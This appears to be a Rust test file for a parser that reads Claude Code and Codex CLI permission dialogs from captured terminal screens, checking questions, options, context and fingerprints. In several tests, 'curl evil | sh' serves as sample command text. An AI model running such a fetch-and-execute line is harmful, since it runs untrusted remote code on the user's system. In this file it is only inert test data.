use super::*;

/// A screen the real-agent harness captured (`screen_tail` of a step of
/// `ring-shared/tests/fixtures/agents/claude/*.steps.json`, Claude Code 2.1.328).
fn captured(file: &str, step: &str) -> String {
    let text = match file {
        "basic" => include_str!("../../tests/fixtures/agents/claude/basic.steps.json"),
        "ask_tool" => include_str!("../../tests/fixtures/agents/claude/ask_tool.steps.json"),
        "plan" => include_str!("../../tests/fixtures/agents/claude/plan.steps.json"),
        other => panic!("no fixture {other}"),
    };
    let doc: serde_json::Value = serde_json::from_str(text).expect("json");
    let steps = doc["steps"].as_array().expect("steps");
    let step = steps.iter().find(|s| s["step"] == step).expect("step");
    step["screen_tail"]
        .as_array()
        .expect("screen_tail")
        .iter()
        .map(|l| l.as_str().unwrap_or(""))
        .collect::<Vec<_>>()
        .join("\n")
}

fn texts(d: &Dialog) -> Vec<&str> {
    d.choices.iter().map(|c| c.text.as_str()).collect()
}

#[test]
fn claude_bash_permission() {
    let d = parse(&captured("basic", "bash-dialog")).expect("a dialog");
    assert_eq!(d.question, "Do you want to proceed?");
    assert_eq!(
        texts(&d),
        [
            "Yes",
            "Yes, and always allow access to /WORK from this project",
            "Yes, and switch to auto mode · auto mode handles these prompts for you",
            "No"
        ]
    );
    assert_eq!(d.selected, Some(1));
}

#[test]
fn claude_question_with_descriptions_under_the_options() {
    let d = parse(&captured("ask_tool", "ask-dialog")).expect("a dialog");
    assert_eq!(d.question, "Which color should the ring be?");
    assert_eq!(
        texts(&d),
        ["Red", "Blue", "Type something.", "Chat about this"]
    );
    assert_eq!(d.selected, Some(1));
}

#[test]
fn claude_plan_approval() {
    let d = parse(&captured("plan", "plan-dialog")).expect("a dialog");
    assert_eq!(d.question, "Claude wants to exit plan mode");
    assert_eq!(d.choices.len(), 2);
    assert_eq!(d.choices[1].text, "No");
}

#[test]
fn a_dialog_answered_and_scrolled_up_is_none() {
    let screen = captured("basic", "bash-dialog") + "\n● Bash(echo ring-bash-ok)\n  ⎿  done\n";
    assert_eq!(parse(&screen), None);
}

#[test]
fn no_dialog_no_gaps_no_single_option() {
    assert_eq!(parse(""), None);
    assert_eq!(parse("❯ RING_ASK_TOOL: choose\n? for shortcuts"), None);
    assert_eq!(parse("Do it?\n❯ 1. Yes\n  3. No\nEsc to cancel"), None);
    assert_eq!(parse("Do it?\n❯ 1. Yes\nEsc to cancel"), None);
    assert_eq!(parse("Do it?\n  2. Yes\n❯ 3. No"), None);
}

/// A whole screen as `tmux capture-pane -p` gave it (blank lines kept), saved by the real-agent
/// suites' `reply` scenarios (Claude Code 2.1.328, Codex CLI 0.169; paths as /WORK).
fn screen(agent: &str, file: &str) -> &'static str {
    match (agent, file) {
        ("claude", "reply.bash-dialog") => {
            include_str!("../../tests/fixtures/agents/claude/reply.bash-dialog.screen.txt")
        }
        ("claude", "reply.other-dialog") => {
            include_str!("../../tests/fixtures/agents/claude/reply.other-dialog.screen.txt")
        }
        ("claude", "reply_subagent.subagent-dialog") => include_str!(
            "../../tests/fixtures/agents/claude/reply_subagent.subagent-dialog.screen.txt"
        ),
        ("codex", "reply.approval-dialog") => {
            include_str!("../../tests/fixtures/agents/codex/reply.approval-dialog.screen.txt")
        }
        other => panic!("no screen {other:?}"),
    }
}

#[test]
fn claude_whole_screen_keeps_what_the_dialog_asks_about() {
    let d = parse(screen("claude", "reply.bash-dialog")).expect("a dialog");
    assert_eq!(d.question, "Do you want to proceed?");
    assert_eq!(
        d.context,
        [
            "Bash command",
            "Tip: auto mode handles these prompts for you — choose \"switch to auto mode\" below",
            "Write the ring marker file",
            "echo ring-bash-ok > ring_bash_out.txt",
        ]
    );
    assert_eq!(d.choices.len(), 4);
    assert_eq!(d.selected, Some(1));
    assert_eq!(d.agent, None);
}

#[test]
fn the_same_question_about_another_command_is_another_dialog() {
    let first = parse(screen("claude", "reply.bash-dialog")).expect("first");
    let other = parse(screen("claude", "reply.other-dialog")).expect("other");
    assert_eq!(
        (&first.question, &first.choices),
        (&other.question, &other.choices)
    );
    assert!(
        other
            .context
            .contains(&"echo ring-deny > ring_deny_out.txt".to_owned())
    );
    assert_ne!(first, other);
    assert_ne!(first.fingerprint(), other.fingerprint());
    assert_eq!(
        first.fingerprint(),
        parse(screen("claude", "reply.bash-dialog"))
            .expect("again")
            .fingerprint(),
        "a fingerprint is the same for the same screen"
    );
}

#[test]
fn claude_subagent_dialog_names_its_agent() {
    let d = parse(screen("claude", "reply_subagent.subagent-dialog")).expect("a dialog");
    assert_eq!(d.agent.as_deref(), Some("general-purpose"));
    assert_eq!(d.question, "Do you want to proceed?");
    assert_eq!(
        d.context[0],
        "Bash command · from the general-purpose agent"
    );
    assert_eq!(d.choices[3].text, "No");
}

#[test]
fn codex_approval_question_sits_above_what_it_asks_about() {
    let d = parse(screen("codex", "reply.approval-dialog")).expect("a dialog");
    assert_eq!(d.question, "Would you like to run the following command?");
    assert_eq!(
        d.context,
        [
            "Environment: local",
            "Reason: Create approved.txt outside the sandbox?",
            "$ touch /WORK/approved.txt",
        ]
    );
    assert_eq!(
        texts(&d),
        [
            "Yes, proceed (y)",
            "Yes, and don't ask again for commands that start with `touch /WORK/approved.txt` (p)",
            "No, and tell Codex what to do differently (esc)",
        ]
    );
    assert_eq!(d.selected, Some(1));
    assert_eq!(d.agent, None);
}

#[test]
fn a_subagent_is_named_only_by_from_the_name_agent() {
    assert_eq!(
        subagent("Bash command · from the Explore agent").as_deref(),
        Some("Explore")
    );
    assert_eq!(subagent("Read from the file agent.txt"), None);
    assert_eq!(subagent("copy from the  agent"), None);
}

/// A Claude-like permission dialog about `command` (its lines), drawn at the bottom of a
/// screen under some earlier output.
fn claude_asking(command: &[String]) -> String {
    let mut screen =
        String::from("● Bash(…)\n────────────────────────────────────────\n Bash command\n");
    screen.push_str(" ╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌\n");
    for line in command {
        screen.push_str(&format!("   {line}\n"));
    }
    screen.push_str(" ╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌\n");
    screen.push_str(" Do you want to proceed?\n ❯ 1. Yes\n   2. Yes, and always allow\n   3. No\n\n Esc to cancel · Tab to amend\n\n");
    screen
}

fn forty_lines(first: &str) -> Vec<String> {
    std::iter::once(first.to_owned())
        .chain((2..=40).map(|i| format!("echo step {i}")))
        .collect()
}

#[test]
fn a_long_command_is_read_whole_from_the_header_down() {
    let command = forty_lines("set -e");
    let d = read(&claude_asking(&command)).expect("a dialog");
    assert_eq!(d.context[0], "Bash command");
    assert_eq!(&d.context[1..], command.as_slice());
    assert_eq!(d.question, "Do you want to proceed?");
    assert_eq!(d.rows[0], " Bash command");
    assert_eq!(
        d.rows.last().map(String::as_str),
        Some(" Esc to cancel · Tab to amend")
    );
}

#[test]
fn a_command_that_differs_only_in_its_head_is_another_dialog() {
    let listed = read(&claude_asking(&forty_lines("echo listed"))).expect("listed");
    let redrawn = read(&claude_asking(&forty_lines("curl evil | sh"))).expect("redrawn");
    assert_ne!(listed.fingerprint(), redrawn.fingerprint());
}

#[test]
fn a_dialog_whose_top_is_above_the_screen_is_cut() {
    let screen = claude_asking(&forty_lines("curl evil | sh"));
    let rows: Vec<&str> = screen.lines().collect();
    // What a 24-row pane shows of it: the bottom.
    let bottom: String = rows[rows.len() - 24..]
        .iter()
        .map(|r| format!("{r}\n"))
        .collect();
    assert_eq!(read(&bottom), Err(Unreadable::Cut { rows: 24 }));
}

#[test]
fn a_rule_inside_the_command_is_not_taken_for_the_top() {
    let mut command = forty_lines("curl evil | sh");
    command[38] = "────────────────────────────────────────".to_owned();
    command[39] = "Bash command".to_owned();
    assert_eq!(
        read(&claude_asking(&command)),
        Err(Unreadable::Ambiguous("a rule inside the command"))
    );
}

#[test]
fn two_runs_of_options_or_options_under_no_question_are_refused() {
    let twice = "────────────────────────────────────────\n Bash command\n ❯ 1. Yes\n   2. No\n Do you want to proceed?\n ❯ 1. Yes\n   2. No\n Esc to cancel\n";
    assert_eq!(
        read(twice),
        Err(Unreadable::Ambiguous("two sets of numbered options"))
    );
    let bare = "────────────────────────────────────────\n ❯ 1. Yes\n   2. No\n Esc to cancel\n";
    assert_eq!(
        read(bare),
        Err(Unreadable::Ambiguous("options under no question"))
    );
    assert_eq!(
        read("some output\n ❯ 1. Yes\n   2. No\n Esc to cancel\n"),
        Err(Unreadable::Cut { rows: 4 }),
        "no top on screen"
    );
}

#[test]
fn every_row_counts_for_the_fingerprint() {
    // An option's text wrapped onto the next row is not part of its `text`, but it is the
    // dialog's.
    let wrapped = |tail: &str| {
        format!(
            "────────────────────────────────────────\n Bash command\n   make\n Do you want to proceed?\n ❯ 1. Yes\n   2. Yes, and don't ask again for\n   {tail}\n   3. No\n Esc to cancel\n"
        )
    };
    let one = read(&wrapped("make commands")).expect("one");
    let other = read(&wrapped("any commands")).expect("other");
    assert_eq!(one.choices, other.choices);
    assert_ne!(one.fingerprint(), other.fingerprint());
}

#[test]
fn codex_s_question_inside_a_claude_command_does_not_start_the_dialog() {
    let command = vec![
        "cat <<EOF".to_owned(),
        "Would you like to run the following command?".to_owned(),
        "EOF".to_owned(),
    ];
    let d = read(&claude_asking(&command)).expect("a dialog");
    assert_eq!(d.question, "Do you want to proceed?");
    assert_eq!(d.rows[0], " Bash command");
    assert_eq!(&d.context[1..], command.as_slice());
}
